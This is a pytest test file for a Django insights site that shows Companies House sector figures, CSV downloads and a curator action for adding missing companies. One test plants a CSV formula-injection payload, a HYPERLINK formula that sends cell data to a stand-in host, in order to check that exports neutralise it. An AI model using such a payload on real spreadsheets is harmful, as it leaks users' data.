"""Insights pages: figures, charts with tables, CSV, method, junk queries, curator action."""

import re

import polars as pl
import pytest
from django.contrib.admin.models import LogEntry
from django.contrib.auth.models import Permission, User
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from frontdoor.core.models import PublicationState
from frontdoor.directory.models import Organisation


@pytest.mark.django_db
def test_pages_before_any_import_say_so(client, data_dir):
    for url in ("/insights/", "/insights/milton-keynes/"):
        response = client.get(url)
        assert response.status_code == 200
        assert "No Companies House snapshot has been imported yet" in response.content.decode()
    assert client.get("/insights/milton-keynes/peers.csv").status_code == 404


def test_the_area_page_shows_figures_charts_and_their_tables(client, two_snapshots):
    page = client.get("/insights/milton-keynes/").content.decode()
    assert "Milton Keynes" in page and "Digital sector (DCMS), version 2016" in page
    assert 'name="q" value=""' in page  # the header's search box stays empty
    assert page.count('<svg role="img" aria-label="Bar chart:') == 4
    assert page.count('<table class="data-table">') == 7  # no dissolution dates here
    assert "No company in the sector and area has a dissolution date" in page
    assert "60.0%" in page and "0.86" in page  # share and location quotient
    assert "33.3%" in page  # one-year survival
    assert "Needs two snapshots 3 years apart" in page
    assert "registered office is not the trading site" not in page  # that is on the method page
    assert (
        'href="/insights/milton-keynes/peers.csv?definition=dcms-digital-2016&amp;month=2025-11"'
        in page
    )


def test_the_peers_chart_names_this_area_in_its_label_not_by_colour_alone(client, two_snapshots):
    page = client.get("/insights/milton-keynes/").content.decode()
    chart = page[page.index('id="peers-title"') :]
    chart = chart[: chart.index("</svg>")]
    assert "This area: Milton Keynes" in chart
    assert "This area: Coventry" not in chart
    assert 'aria-label="Bar chart: location quotient of Digital sector (DCMS) companies, ' in chart
    # The table keeps the plain name.
    assert '<th scope="row">Milton Keynes</th>' in page or ">Milton Keynes</" in page


def test_the_index_lists_areas_with_their_headline(client, two_snapshots):
    page = client.get("/insights/?definition=dcms-creative-2016").content.decode()
    assert "West Midlands Combined Authority" in page and "Creative industries" in page


def test_csv_downloads_carry_licence_and_figures(client, two_snapshots):
    response = client.get("/insights/milton-keynes/survival.csv")
    assert response["Content-Type"].startswith("text/csv")
    lines = response.content.decode().splitlines()
    assert "Open Government Licence" in lines[1]
    assert lines[2].startswith("# After 3 years: Needs two snapshots 3 years apart")
    assert lines[3].startswith("# After 5 years: Needs two snapshots 5 years apart")
    assert lines[4] == "Years,Cohort incorporated,Measured at,Cohort,Survivors,Rate"
    assert lines[5:] == ["1,2023-11-01 to 2024-10-31,2025-11-01,3,1,0.333333"]
    assert client.get("/insights/milton-keynes/nothing.csv").status_code == 404


def test_csv_comment_lines_are_skipped_by_readers_that_skip_comments(client, two_snapshots):
    content = client.get("/insights/milton-keynes/peers.csv").content
    assert content.startswith("\ufeff# Comparison with peer areas".encode())  # BOM for Excel
    assert b'"#' not in content
    table = pl.read_csv(content, comment_prefix="#")
    assert table.columns[:2] == ["Area", "Active companies"]
    assert table["Area"].to_list()[0] == "Milton Keynes"


def test_the_method_page_has_definitions_sources_and_caveats(client, two_snapshots):
    page = client.get("/insights/method/").content.decode()
    for text in (
        "registered office is not the trading site",
        "Dormant and non-trading companies",
        "Register counts differ from ONS business counts",
        "Contains National Statistics data",
        "Open Government Licence v3.0",
        "62012",
        "E08000019 became E08000039",
    ):
        assert text in page


def test_unknown_choices_fall_back_with_a_note(client, two_snapshots):
    page = client.get("/insights/milton-keynes/?definition=nope&month=1999-99").content.decode()
    assert "There is no sector definition “nope”" in page
    assert "is not a month such as 2025-11" in page


junk = st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=30)


@pytest.mark.django_db
@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    url=st.sampled_from(["/insights/", "/insights/milton-keynes/", "/insights/coventry/peers.csv"]),
    key=st.sampled_from(["definition", "month", "x"]),
    value=junk,
)
def test_junk_query_strings_never_cause_a_server_error(client, data_dir, url, key, value):
    assert client.get(url, {key: value}).status_code in (200, 400, 404)


def curator():
    """A staff user who may add organisations, as a directory curator can."""
    user = User.objects.create_user("curator", password="x", is_staff=True)
    user.user_permissions.add(Permission.objects.get(codename="add_organisation"))
    return user


def test_curators_add_missing_companies_as_draft_listings(client, two_snapshots):
    Organisation.objects.create(
        name="Already listed",
        slug="already",
        kind="sme",
        company_number="00000004",
        state=PublicationState.PUBLISHED,
    )
    page = client.get("/insights/milton-keynes/").content.decode()
    assert "The directory lists <strong>1</strong> of the <strong>3</strong>" in page
    assert "Add the 2 missing" not in page  # visitors do not see the action

    url = "/insights/milton-keynes/add-missing/"
    assert client.post(url, {"definition": "dcms-digital-2016"}).status_code == 403
    assert Organisation.objects.count() == 1

    user = curator()
    client.force_login(user)
    assert "Add the 2 missing" in client.get("/insights/milton-keynes/").content.decode()
    response = client.post(url, {"definition": "dcms-digital-2016"})
    assert response.status_code == 302
    added = Organisation.objects.filter(source="companies-house").order_by("source_id")
    assert [(o.source_id, o.company_number, o.postcode, o.state) for o in added] == [
        ("00000001", "00000001", "MK9 1AA", PublicationState.DRAFT),
        ("00000010", "00000010", "MK9 1AA", PublicationState.DRAFT),
    ]
    assert added[0].name == "COMPANY 00000001 LIMITED" and added[0].founded_year == 2024
    assert "Computer programming and consultancy" in added[0].summary
    assert LogEntry.objects.filter(user=user).count() == 1
    # Running it again adds nothing: they are listed now.
    client.post(url, {"definition": "dcms-digital-2016"})
    assert Organisation.objects.filter(source="companies-house").count() == 2
    page = client.get("/insights/milton-keynes/").content.decode()
    assert "Add the" not in page
    assert "2 more are in the directory but not published" in page


def test_directory_coverage_counts_only_published_listings(client, two_snapshots):
    client.force_login(curator())
    client.post("/insights/milton-keynes/add-missing/", {"definition": "dcms-digital-2016"})
    assert Organisation.objects.filter(state=PublicationState.DRAFT).count() == 3
    client.logout()
    page = client.get("/insights/milton-keynes/").content.decode()
    assert "The directory lists <strong>0</strong> of the <strong>3</strong>" in page
    assert "(0.0%)" in page and "not published" not in page  # drafts are staff business

    Organisation.objects.filter(company_number="00000001").update(state=PublicationState.PUBLISHED)
    page = client.get("/insights/milton-keynes/").content.decode()
    assert "The directory lists <strong>1</strong> of the <strong>3</strong>" in page


def test_staff_without_the_add_organisation_permission_cannot_add_missing(client, two_snapshots):
    events_editor = User.objects.create_user("events", password="x", is_staff=True)
    events_editor.user_permissions.add(Permission.objects.get(codename="add_event"))
    client.force_login(events_editor)
    assert "Add the 3 missing" not in client.get("/insights/milton-keynes/").content.decode()
    response = client.post(
        "/insights/milton-keynes/add-missing/", {"definition": "dcms-digital-2016"}
    )
    assert response.status_code == 403
    assert not Organisation.objects.exists()


def test_the_index_follows_an_edited_area(client, two_snapshots):
    from frontdoor.insights.models import Area

    Area.objects.filter(slug="coventry").update(
        name="Coventry and Milton Keynes", codes="E08000026 E06000042"
    )
    page = client.get("/insights/").content.decode()
    # 3 digital companies in Milton Keynes and 1 in Coventry, of 6 active there.
    assert re.search(
        r"Coventry and Milton Keynes</a></th><td>Local authority</td>\s*<td>4</td><td>66.7%", page
    )


def test_a_month_before_the_first_snapshot_shows_the_first(client, two_snapshots):
    page = client.get("/insights/milton-keynes/?month=2019-01").content.decode()
    assert "The first snapshot is of 2024-11; showing it." in page
    assert "Snapshot of 2024-11; 2 snapshots imported." in page
    # Disappearances start from the first snapshot: a later month shows them.
    assert "2024-11 is the first imported, so choose a later month" in page


def test_missing_companies_are_added_from_the_newest_month_only(client, two_snapshots):
    client.force_login(curator())
    # November 2024 counts 1 2 4 9 as active digital companies in Milton Keynes; some of them
    # have left the register by November 2025, so that month adds nothing.
    page = client.get("/insights/milton-keynes/?month=2024-11").content.decode()
    assert "Add the" not in page
    assert "Missing companies are added from the newest snapshot" in page
    assert "month=2025-11#coverage" in page
    url = "/insights/milton-keynes/add-missing/"
    older = {"definition": "dcms-digital-2016", "month": "2024-11"}
    response = client.post(url, older, follow=True)
    assert response.redirect_chain[-1][0].endswith("month=2024-11#coverage")
    assert "Nothing was added" in response.content.decode()
    assert not Organisation.objects.filter(source="companies-house").exists()
    # The newest month, named or not, adds what it counts.
    page = client.get("/insights/milton-keynes/?month=2025-11").content.decode()
    assert "Add the 3 missing" in page and 'name="month" value="2025-11"' in page
    client.post(url, {"definition": "dcms-digital-2016", "month": "2025-11"})
    assert Organisation.objects.filter(source="companies-house").count() == 3


def test_an_older_month_on_the_index_is_named_chosen_and_kept_in_the_links(client, two_snapshots):
    page = client.get("/insights/?month=2024-11").content.decode()
    # November 2024: 4 of 5 active companies in Milton Keynes are digital.
    assert re.search(r"Milton Keynes</a></th><td>[^<]*</td>\s*<td>4</td><td>80.0%", page)
    assert "snapshot of November 2024</caption>" in page
    assert '<option value="2024-11" selected>' in page
    assert '<option value="2025-11" selected>' not in page
    assert 'href="/insights/milton-keynes/?definition=dcms-digital-2016&amp;month=2024-11"' in page
    newest = client.get("/insights/").content.decode()
    assert '<option value="2025-11" selected>' in newest
    assert "snapshot of November 2025</caption>" in newest


def test_an_area_without_companies_and_a_definition_without_codes_say_so(client, two_snapshots):
    from frontdoor.insights.models import Area, SectorDefinition

    Area.objects.create(slug="nowhere", name="Nowhere", kind="lad", codes="E06000001")
    page = client.get("/insights/nowhere/").content.decode()
    assert "<strong>0</strong> active companies of any sector have their registered office" in page
    assert "<strong></strong>" not in page

    SectorDefinition.objects.create(slug="empty", name="Empty definition", version="1")
    page = client.get("/insights/milton-keynes/?definition=empty").content.decode()
    assert "The Empty definition has no SIC codes yet, so it counts no companies." in page
    method = client.get("/insights/method/").content.decode()
    assert "No codes yet: this definition counts no companies." in method
    assert "Source: ." not in method


def test_csv_cells_from_curated_text_cannot_run_as_formulas(client, two_snapshots):
    from frontdoor.insights.figures import figures_refresh
    from frontdoor.insights.models import Area, SectorCode

    formula = '=HYPERLINK("http://example.invalid/?x="&A1,"Click")'
    SectorCode.objects.filter(definition__slug="dcms-digital-2016", code="62012").update(
        subsector=formula
    )
    Area.objects.filter(slug="coventry").update(name="@SUM(1+1)")
    figures_refresh()
    rows = client.get("/insights/milton-keynes/subsectors.csv").content.decode().splitlines()
    assert any(r.startswith(("\"'=HYPERLINK", "'=HYPERLINK")) for r in rows), rows
    assert not any(r.startswith(('"=', "=")) for r in rows)
    rows = client.get("/insights/milton-keynes/peers.csv").content.decode().splitlines()
    assert any(r.startswith("'@SUM(1+1)") for r in rows), rows


def test_a_taken_slug_and_a_single_company_are_handled(client, two_snapshots):
    # A draft whose number a curator cleared still holds the slug a company would get.
    Organisation.objects.create(
        name="Company 00000001", slug="company-00000001-limited-00000001", kind="sme"
    )
    for number in ("00000004", "00000010"):  # listed: one company is missing
        Organisation.objects.create(
            name=number, slug=f"listed-{number}", kind="sme", company_number=number
        )
    client.force_login(curator())
    page = client.get("/insights/milton-keynes/").content.decode()
    assert "Add the 1 missing company as draft listing</button>" in page
    url = "/insights/milton-keynes/add-missing/"
    response = client.post(url, {"definition": "dcms-digital-2016"}, follow=True)
    assert "Added 1 company as a draft listing" in response.content.decode()
    added = Organisation.objects.get(source="companies-house")
    assert added.slug == "company-00000001-limited-00000001-2"
    response = client.post(url, {"definition": "dcms-digital-2016"}, follow=True)
    assert "Nothing to add: the directory already has every one." in response.content.decode()


@pytest.mark.django_db(transaction=True)
def test_a_second_curator_adding_at_the_same_moment_waits_and_adds_nothing(data_dir):
    import threading

    from django.db import connection, transaction

    from frontdoor.insights.actions import organisations_add_missing
    from frontdoor.insights.companies import companies_import
    from frontdoor.insights.figures import figures_for
    from frontdoor.insights.models import Area, SectorDefinition

    from .conftest import snapshot_2025, write_csv

    if connection.vendor != "postgresql":
        pytest.skip("SQLite has one writer at a time: the runs cannot overlap")
    companies_import(
        write_csv(data_dir / "BasicCompanyDataAsOneFile-2025-11-01.csv", snapshot_2025())
    )
    fig = figures_for(
        Area.objects.get(slug="milton-keynes"),
        SectorDefinition.objects.get(slug="dcms-digital-2016"),
    )
    definition = SectorDefinition.objects.get(slug="dcms-digital-2016")
    second = []

    def run():
        try:
            second.append(
                organisations_add_missing(figures=fig, definition=definition, acting_user=None)
            )
        except Exception as error:  # reported by the assertion below
            second.append(error)
        finally:
            connection.close()

    with transaction.atomic():
        assert organisations_add_missing(figures=fig, definition=definition, acting_user=None) == 3
        other = threading.Thread(target=run)
        other.start()
        other.join(0.5)
        assert other.is_alive()  # waiting for the first run to commit
    other.join(10)
    assert second == [0]
    assert Organisation.objects.filter(source="companies-house").count() == 3


@pytest.mark.django_db
def test_survival_not_yet_measurable_is_said_in_words_not_a_row_of_blanks(client, data_dir):
    from frontdoor.insights.companies import companies_import

    from .conftest import snapshot_2025, write_csv

    companies_import(
        write_csv(data_dir / "BasicCompanyDataAsOneFile-2025-11-01.csv", snapshot_2025())
    )
    page = client.get("/insights/milton-keynes/").content.decode()
    survival = page[page.index('id="survival-title"') : page.index('id="mix-title"')]
    assert "<table" not in survival and "survival.csv" not in survival
    assert survival.count("not yet measurable. Needs two snapshots") == 3
    assert "After 1 year: not yet measurable." in survival
    assert "After 5 years: not yet measurable." in survival
    # The CSV says why in comment lines, and has no row of blanks.
    rows = client.get("/insights/milton-keynes/survival.csv").content.decode().splitlines()
    assert rows[2].startswith("# After 1 year: Needs two snapshots 1 year apart")
    assert rows[4].startswith("# After 5 years: Needs two snapshots 5 years apart")
    assert rows[5:] == ["Years,Cohort incorporated,Measured at,Cohort,Survivors,Rate"]
